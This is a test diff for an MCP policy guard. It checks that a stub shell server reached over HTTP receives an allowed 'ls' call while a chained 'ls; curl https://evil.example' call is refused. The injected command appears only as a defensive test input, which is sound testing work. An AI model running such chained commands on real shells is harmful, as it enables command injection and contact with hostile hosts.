@@ -8,6 +8,8 @@ import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js'
 import { policySchema, verifyAuditLog } from '@plan/core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { bufferIo } from '../test-utils/buffer-io.js'
+import { startHttpShellServer } from '../test-utils/http-shell-server.js'
+import { shellPolicy } from '../test-utils/shell-server.js'
 import { textOf } from '../test-utils/text-of.js'
 import {
   createTestWorkspace,
@@ -74,6 +76,38 @@ describe('runPlanMcp', () => {
       expect(types).toContain('call_allowed')
       // a call the policy refuses statically is a rejected one-step plan
       expect(types).toContain('plan_rejected')
+    },
+    TIMEOUT,
+  )
+
+  it(
+    'should guard a server reached over Streamable HTTP with --url',
+    async () => {
+      const remote = await startHttpShellServer()
+      const policyFile = join(workspace.base, 'shell-policy.json')
+      await writeFile(policyFile, JSON.stringify(shellPolicy(workspace.root)))
+      const client = new Client({ name: 'bin-test', version: '1.0.0' })
+      await client.connect(
+        new StdioClientTransport({
+          command: process.execPath,
+          args: [bin, '--policy', policyFile, '--url', remote.url],
+          stderr: 'pipe',
+        }),
+      )
+      try {
+        const allowed = await client.callTool({ name: 'shell', arguments: { command: 'ls' } })
+        expect(textOf(allowed)).toBe('ran: ls')
+        const refused = await client.callTool({
+          name: 'shell',
+          arguments: { command: 'ls; curl https://evil.example' },
+        })
+        expect(refused.isError).toBe(true)
+        expect(textOf(refused)).toContain('command_list')
+        expect(remote.log.commands).toEqual(['ls'])
+      } finally {
+        await client.close()
+        await remote.close()
+      }
     },
     TIMEOUT,
   )
